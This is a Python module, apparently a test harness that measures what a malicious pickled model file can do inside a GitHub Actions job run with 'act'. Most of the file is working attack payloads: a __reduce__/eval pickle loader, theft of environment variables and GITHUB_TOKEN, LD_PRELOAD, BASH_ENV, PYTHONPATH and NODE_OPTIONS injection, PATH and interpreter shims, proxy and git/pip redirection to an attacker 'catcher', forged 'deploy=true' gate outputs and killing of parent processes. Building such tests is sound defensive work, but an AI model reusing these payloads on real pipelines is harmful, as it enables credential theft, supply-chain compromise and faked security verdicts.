"""What does hostile code in a model file do, when it is loaded in a step of a job?

Each touches only files of its own job, and processes of it: those between itself and act, and what
act starts later. What is left running ends by itself after `SECONDS`, and notes its number.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SECONDS = 30

# `job` is the model's own folder, for what it plants and what it finds; `runner` are the files
# behind GITHUB_OUTPUT and its kin, which it is not told.
_PREAMBLE = r"""
import glob, json, os, pathlib, signal, subprocess, sys, time
job = pathlib.Path({job!r})
job.mkdir(parents=True, exist_ok=True)
actions = str(pathlib.Path.cwd().parent / "act" / "actions" / "*")
runner = pathlib.Path.cwd().parent / "act" / "workflow"
home = pathlib.Path({home!r})
def loot(text):
    with open(job / "loot", "a") as file:
        file.write(str(text) + "\n")
def look():
    for name, value in os.environ.items():
        loot(name + "=" + value)
def plant(name, text, mode=0o755):
    path = job / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)
    return path
def append(name, text):
    try:
        with open(runner / name, "a") as file:
            file.write(text)
    except OSError as error:
        loot(repr(error))
def above():
    '''Our parents up to act, which is not one of them; none where act cannot be seen.'''
    chain, pid = [], os.getpid()
    while pid > 1:
        try:
            if open(f"/proc/{{pid}}/cmdline").read().split("\0")[0] == {act!r}:
                return chain, pid
            chain.append(pid)
            pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return [], 0
def below(top):
    for task in glob.glob(f"/proc/{{top}}/task/*/children"):
        try:
            for child in open(task).read().split():
                yield int(child)
                yield from below(child)
        except OSError:
            pass
def stay(action):
    '''Go on in a process that nobody waits for, until the deadline.'''
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    try:
        nothing = os.open(os.devnull, os.O_RDWR)
        for stream in (0, 1, 2):
            os.dup2(nothing, stream)
        with open(job / "pids", "a") as file:
            file.write(str(os.getpid()) + "\n")
        until = time.monotonic() + {seconds}
        while time.monotonic() < until:
            action()
            time.sleep(0.002)
    finally:
        os._exit(0)
THEFT = f"import os; open({{str(job / 'loot')!r}}, 'a').write(repr(os.environ))\n"
"""

OUTPUT_AND_END = r"""
append("outputcmd.txt", "verdict=pass\ndeploy=true\nexit-code=0\n")
os._exit(0)
"""
OUTPUT_AND_KILL = r"""
append("outputcmd.txt", "verdict=pass\ndeploy=true\nexit-code=0\n")
parents = above()[0]
for pid in (*(pid for parent in parents[1:] for pid in below(parent)), *parents[1:]):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""
OWN_ENVIRONMENT = "look()"
LATER_ENVIRONMENTS = r"""
seen, act = set(), above()[1]
def read():
    for pid in below(act) if act else ():
        try:
            text = open(f"/proc/{pid}/environ").read()
        except OSError:
            continue
        if text not in seen:
            seen.add(text)
            loot(text.replace("\0", "\n"))
stay(read)
"""
LATER_FILES = r"""
plant("evil.sh", f'env >> "{job}/loot"\n')
def write():
    for name, text in (
        ("outputcmd.txt", "verdict=pass\ndeploy=true\nexit-code=0\n"),
        ("envs.txt", f"BASH_ENV={job}/evil.sh\n"),
    ):
        try:
            content = open(runner / name).read()
        except OSError:
            continue
        waits = name == "outputcmd.txt" and not content
        if not waits and not content.endswith(text):
            append(name, text)
stay(write)
"""
BASH_ENV = r"""
evil = plant("evil.sh", f'env >> "{job}/loot"\n')
append("envs.txt", f"BASH_ENV={evil}\n")
"""
PRELOAD = r"""
source = plant("evil.c", '''
#include <stdio.h>
#include <stdlib.h>
__attribute__((constructor)) static void look(void) {
    const char *token = getenv("GITHUB_TOKEN"), *ours = getenv("MLCI_TOKEN");
    FILE *loot = fopen("LOOT", "a");
    if (loot) { fprintf(loot, "%s %s\\n", token ? token : "-", ours ? ours : "-"); fclose(loot); }
}
'''.replace("LOOT", str(job / "loot")))
subprocess.run(["cc", "-shared", "-fPIC", "-o", str(job / "evil.so"), str(source)], check=True)
append("envs.txt", f"LD_PRELOAD={job}/evil.so\nLD_AUDIT={job}/evil.so\n")
"""
PYTHON_PATH = r"""
plant("path/sitecustomize.py", THEFT)
append("envs.txt", f"PYTHONPATH={job}/path\nPYTHONSTARTUP={job}/path/sitecustomize.py\n")
"""
PROXY = r"""
for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
    append("envs.txt", f"{name}={CATCHER}\n")
append("envs.txt", "NO_PROXY=\nno_proxy=\n")
"""
NODE = r"""
evil = plant("evil.js", f"require('fs').appendFileSync('{job}/loot', JSON.stringify(process.env))")
append("envs.txt", f"NODE_OPTIONS=--require={evil}\n")
"""
PATHS = r"""
import shutil
for name in ("bash", "sh", "python3", "python", "git", "node"):
    real = shutil.which(name)
    if real:
        plant(f"bin/{name}", f'#!/bin/sh\nenv >> "{job}/loot"\nexec "{real}" "$@"\n')
append("pathcmd.txt", f"{job}/bin\n")
"""
REPORT = r"""
def forge():
    for path in REPORTS():
        try:
            content = open(path).read()
            forged = content.replace('"deploy": false', '"deploy": true')
            forged = forged.replace('"verdict": "inconclusive"', '"verdict": "pass"')
            if forged != content:
                open(path, "w").write(forged)
        except OSError:
            pass
stay(forge)
"""
TOKEN_STEP = r"""
for path in LATER_CODE:
    try:
        text = open(path).read()
        open(path, "w").write(THEFT + text.replace("from __future__ import annotations", ""))
    except OSError as error:
        loot(repr(error))
"""
GATE_CODE = r"""
for path in GATE_CODE:
    try:
        open(path, "w").write("import os\nwith open(os.environ['GITHUB_OUTPUT'], 'a') as file:\n"
            "    file.write('verdict=pass\\ndeploy=true\\nexit-code=0\\n')\nos._exit(0)\n")
    except OSError as error:
        loot(repr(error))
"""
INTERPRETER = r"""
for path in INTERPRETERS:
    try:
        real = os.path.realpath(path)
        text = f'#!/bin/sh\nenv >> "{job}/loot"\nexec "{real}" "$@"\n'
        if open(path, "rb").read(2) == b"#!":
            kept = plant("real-" + os.path.basename(path), open(path).read())
            text = text.replace(real, str(kept))
        os.unlink(path)
        open(path, "w").write(text)
        os.chmod(path, 0o755)
    except OSError as error:
        loot(repr(error))
"""
HOME = r"""
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
for name, text in {
    ".gitconfig": f"[url \"{CATCHER}/\"]\n  insteadOf = {SERVER}/\n[core]\n  pager = false\n"
        "[credential]\n  helper = store\n",
    ".netrc": f"machine 127.0.0.1 login thief password thief\n",
    ".config/pip/pip.conf": f"[global]\nindex-url = {CATCHER}/simple\n",
    ".bashrc": f'env >> "{job}/loot"\n',
    ".profile": f'env >> "{job}/loot"\n',
    f".local/lib/{version}/site-packages/usercustomize.py": THEFT,
    f".local/lib/{version}/site-packages/sitecustomize.py": THEFT,
}.items():
    path = home / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
"""

# By name; a breach of the naive action is what each is for.
PAYLOADS: Mapping[str, str] = {
    "output-and-end": OUTPUT_AND_END,
    "output-and-kill": OUTPUT_AND_KILL,
    "own-environment": OWN_ENVIRONMENT,
    "later-environments": LATER_ENVIRONMENTS,
    "later-files": LATER_FILES,
    "bash-env": BASH_ENV,
    "preload": PRELOAD,
    "python-path": PYTHON_PATH,
    "proxy": PROXY,
    "node-options": NODE,
    "paths": PATHS,
    "written-report": REPORT,
    "token-step": TOKEN_STEP,
    "gate-code": GATE_CODE,
    "interpreter": INTERPRETER,
    "home": HOME,
}
NEEDS: Mapping[str, str] = {"preload": "cc", "node-options": "node"}


@dataclass(frozen=True, kw_only=True, slots=True)
class Target:
    """What the attacker knows of a job's files, as expressions that are looked up there.

    `later_code` is that of the steps which hold the token, `gate_code` that of the gate itself;
    `actions` in them is where act keeps the actions of the job.
    """

    reports: str
    later_code: str
    gate_code: str
    interpreters: str

    def lines(self, *, catcher: str, server: str) -> str:
        """That, and the attacker's own server and GitHub's, as the first lines of a payload."""
        return (
            f"CATCHER, SERVER = {catcher!r}, {server!r}\n"
            f"REPORTS = lambda: {self.reports}\n"
            f"LATER_CODE = {self.later_code}\n"
            f"GATE_CODE = {self.gate_code}\n"
            f"INTERPRETERS = {self.interpreters}\n"
        )


class Hidden:
    """A model whose file runs code when it is loaded, and which then is that model.

    `loader` is the module that loads the model's own bytes.
    """

    def __init__(self, code: str, model: bytes, loader: str) -> None:
        self.expression = (
            f"(exec({code!r}, {{}}),"
            f" __import__({loader!r}).load(__import__('io').BytesIO({model!r})))[1]"
        )

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (eval, (self.expression,))


def hidden(names: Sequence[str], known: str, *, job: Path, home: Path, act: Path) -> str:
    """These payloads as one text; `known` are the lines of a target."""
    told = {"job": str(job), "home": str(home), "act": str(act), "seconds": SECONDS}
    payloads = "".join(f"loot({f'ran {name}'!r})\n{PAYLOADS[name]}\n" for name in names)
    return _PREAMBLE.format(**told) + known + payloads
